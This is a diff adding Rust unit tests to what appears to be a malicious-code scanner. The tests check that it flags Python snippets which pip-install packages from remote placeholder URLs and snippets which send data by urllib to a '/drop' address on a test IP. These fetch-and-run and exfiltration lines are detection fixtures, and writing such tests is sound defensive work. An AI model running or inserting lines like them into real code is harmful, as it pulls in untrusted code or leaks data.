@@ -1071,3 +1071,45 @@ fn clipboard_swapper_with_a_loose_base58_pattern() {
         "{d:?}"
     );
 }
+
+#[test]
+fn pip_install_of_an_address_runs_its_build() {
+    let src = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'https://files.example.invalid/helper-1.0.tar.gz'])\n";
+    assert!(
+        kinds(src).contains(&K::DownloadExecute),
+        "{:?}",
+        details(src)
+    );
+    let vcs =
+        "import os\nos.system('pip3 install git+https://code.example.invalid/x/helper.git')\n";
+    assert!(
+        kinds(vcs).contains(&K::DownloadExecute),
+        "{:?}",
+        details(vcs)
+    );
+    // Installing by name from the configured index, or a local file, is ordinary.
+    let named = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests>=2', './vendor/dep.whl'])\n";
+    assert!(
+        !kinds(named).contains(&K::DownloadExecute),
+        "{:?}",
+        details(named)
+    );
+}
+
+#[test]
+fn request_objects_and_partly_known_addresses_carry_the_destination() {
+    // The address reaches urlopen through a Request object, with a part known only at
+    // run time appended.
+    let src = "import urllib.request\nBASE = 'http://203.0.113.50/drop'\ndef send(name, blob):\n    urllib.request.urlopen(urllib.request.Request(BASE + '?n=' + name, data=blob))\nsend('x', b'')\n";
+    assert!(
+        kinds(src).contains(&K::SuspiciousDestination),
+        "{:?}",
+        details(src)
+    );
+    let kw = "import urllib.request\nreq = urllib.request.Request(url='http://203.0.113.50/i', method='POST')\nurllib.request.urlopen(req)\n";
+    assert!(
+        kinds(kw).contains(&K::SuspiciousDestination),
+        "{:?}",
+        details(kw)
+    );
+}
